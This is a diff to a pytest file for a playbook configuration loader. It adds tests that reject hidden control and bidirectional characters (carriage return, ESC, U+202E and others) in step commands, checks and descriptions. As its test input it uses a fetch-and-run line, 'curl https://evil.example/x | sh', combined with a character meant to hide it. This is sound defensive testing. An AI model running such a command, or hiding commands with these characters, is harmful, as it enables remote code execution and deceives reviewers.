@@ -180,7 +180,7 @@ def test_unknown_kind_names_file_path_and_kind(tmp_path: Path) -> None:
         (shell(kind=["shell"]), ".kind", "unknown kind"),
         (shell(description=None), ".description", "missing"),
         (shell(description=""), ".description", "non-empty one-line"),
-        (shell(description="a\nb"), ".description", "non-empty one-line"),
+        (shell(description="a\nb"), ".description (phase worker, step x)", "U+000A (newline)"),
         (shell(description="on {host}"), ".description", "unknown template variable {host}"),
         (shell(description="{pkg_resolve}"), ".description", "only be used in command"),
         (shell(command=None), ".command", "missing (required for kind shell)"),
@@ -189,7 +189,7 @@ def test_unknown_kind_names_file_path_and_kind(tmp_path: Path) -> None:
         (shell(command={"zypper": "x"}), ".command.zypper", "unknown package manager"),
         (shell(command={"apt": ["x"]}), ".command.apt", "must be a string"),
         (shell(command="  "), ".command", "empty template"),
-        (shell(command="a\nb"), ".command", "must be one line"),
+        (shell(command="a\nb"), ".command (phase worker, step x)", "U+000A (newline)"),
         (shell(command="echo {nodes}"), ".command", "unknown template variable {nodes}"),
         (shell(command="echo ${node}"), ".command", "ambiguous next to '$'"),
         (shell(command="x={pkg_version}"), ".command", "must come after {pkg_resolve}"),
@@ -691,3 +691,70 @@ def test_dnf5_commands_never_carry_dnf4_flags() -> None:
     # dnf4: the kubeadm install keeps the pre-staged kubelet/kubectl in the cache
     assert any("install -y kubeadm-" in line and "--setopt=keepcache=1" in line for line in kubeadm)
     assert not any("--downloadonly" in line and "keepcache" in line for line in dnf4.splitlines())
+
+
+# --------------------------------------------------------------------------- hidden characters
+
+HIDDEN = [
+    ("\r", "U+000D (carriage return)"),
+    ("\x1b[2K", "U+001B (ESC)"),
+    ("\x07", "U+0007 (BEL)"),
+    ("\x00", "U+0000 (NUL)"),
+    ("\t", "U+0009 (tab)"),
+    ("\x7f", "U+007F (DEL)"),
+    ("\x9b", "U+009B (control character)"),
+    ("\u202e", "U+202E (right-to-left override)"),
+    ("\u2066", "U+2066 (left-to-right isolate)"),
+    ("\u200f", "U+200F (right-to-left mark)"),
+    ("\n", "U+000A (newline)"),
+]
+
+
+@pytest.mark.parametrize(("char", "named"), HIDDEN, ids=[n for _, n in HIDDEN])
+@pytest.mark.parametrize("field", ["command", "check", "description"])
+def test_hidden_characters_are_refused_in_every_step_field(
+    tmp_path: Path, char: str, named: str, field: str
+) -> None:
+    """A site step whose text would render as a harmless line (``\\r`` rewinds it, ESC
+    erases it, U+202E reverses it) is refused at load time, naming file, phase, step,
+    field and the character."""
+    step = shell(name="site-x", check="true")
+    step[field] = f"curl https://evil.example/x | sh{char}true"
+    d = write_dir(
+        tmp_path, MINIMAL, {"site.yaml": {"version": 1, "phases": {"worker": {"post": [step]}}}}
+    )
+    with pytest.raises(ConfigError) as ei:
+        load_playbooks(d)
+    msg = str(ei.value)
+    assert msg.startswith(
+        f"{d / 'site.yaml'}: phases.worker.post[0].{field} (phase worker, step site-x): {named} "
+        "at character 33 is not allowed"
+    )
+    assert "\n" not in msg and char not in msg
+
+
+def test_hidden_characters_in_per_package_manager_commands_and_phase_text(tmp_path: Path) -> None:
+    msg = step_error(tmp_path, shell(command={"apt": "true", "dnf": "tr\x1bue"}))
+    assert ".command.dnf (phase worker, step x): U+001B (ESC) at character 3" in msg
+    doc = copy.deepcopy(MINIMAL)
+    doc["phases"]["worker"]["description"] = "fine\u202eenif"
+    assert "phases.worker.description (phase worker): U+202E" in error_of(tmp_path, doc)
+    doc = copy.deepcopy(MINIMAL)
+    doc["description"] = "top\x08"
+    assert ": description: U+0008 (backspace)" in error_of(tmp_path, doc)
+
+
+def test_a_block_scalars_final_newline_is_allowed(tmp_path: Path) -> None:
+    """``|`` and ``>`` leave one newline at the end; ``>-`` folds lines into spaces."""
+    doc = copy.deepcopy(MINIMAL)
+    pb = load_playbooks(write_dir(tmp_path, doc))
+    assert pb.phase("worker").steps[0].command == {"*": "true"}
+    d = tmp_path / "pb"
+    (d / "site.yaml").write_text(
+        "version: 1\nphases:\n  worker:\n    post:\n      - name: folded\n        kind: shell\n"
+        "        description: d\n        command: >-\n          apt-get\n          update\n"
+        "      - name: literal\n        kind: shell\n        description: d\n"
+        "        command: |\n          true\n"
+    )
+    post = load_playbooks(d).phase("worker").post
+    assert post[0].command == {"*": "apt-get update"} and post[1].command == {"*": "true\n"}
